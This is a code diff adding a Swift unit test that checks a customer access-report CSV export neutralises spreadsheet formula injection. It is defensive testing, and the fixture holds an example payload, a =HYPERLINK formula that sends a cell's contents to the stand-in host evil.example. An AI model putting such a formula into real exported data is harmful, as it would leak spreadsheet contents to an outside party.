@@ -204,6 +204,20 @@ final class AccessReportTests: XCTestCase {
         XCTAssertEqual(try JSONDecoder().decode(ProcessingInformation.self, from: data), info)
         XCTAssertTrue(String(decoding: data, as: UTF8.self).contains("\"automated_decision_making\""))
     }
+
+    func testAFormulaInACustomersNameIsNeutralisedInTheAccessPackageCSV() throws {
+        // The attack: a name =HYPERLINK("http://evil.example/?x="&A1,"click") went verbatim into the CSV.
+        var customers = SampleData.customers
+        customers[0][3] = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
+        customers[1][2] = "+46 70 123 45 67"
+        let catalog = try Sample.catalog()
+        let data = [try SubjectDataset(schema: try catalog.dataset("customers"), rows: try SampleData.rows(try catalog.dataset("customers"), customers))]
+        let csv = try XCTUnwrap(try report(datasets: data).csvFiles().first { $0.name.contains("customers") })
+        let text = String(decoding: csv.contents, as: UTF8.self)
+        XCTAssertTrue(text.contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""), text)
+        XCTAssertTrue(text.contains(",'+46701234567,"), text)  // phone numbers are normalised, then neutralised
+        XCTAssertFalse(text.contains(",=HYPERLINK") || text.contains("\"=HYPERLINK"), "no cell starts with a formula")
+    }
 }
 
 extension String {
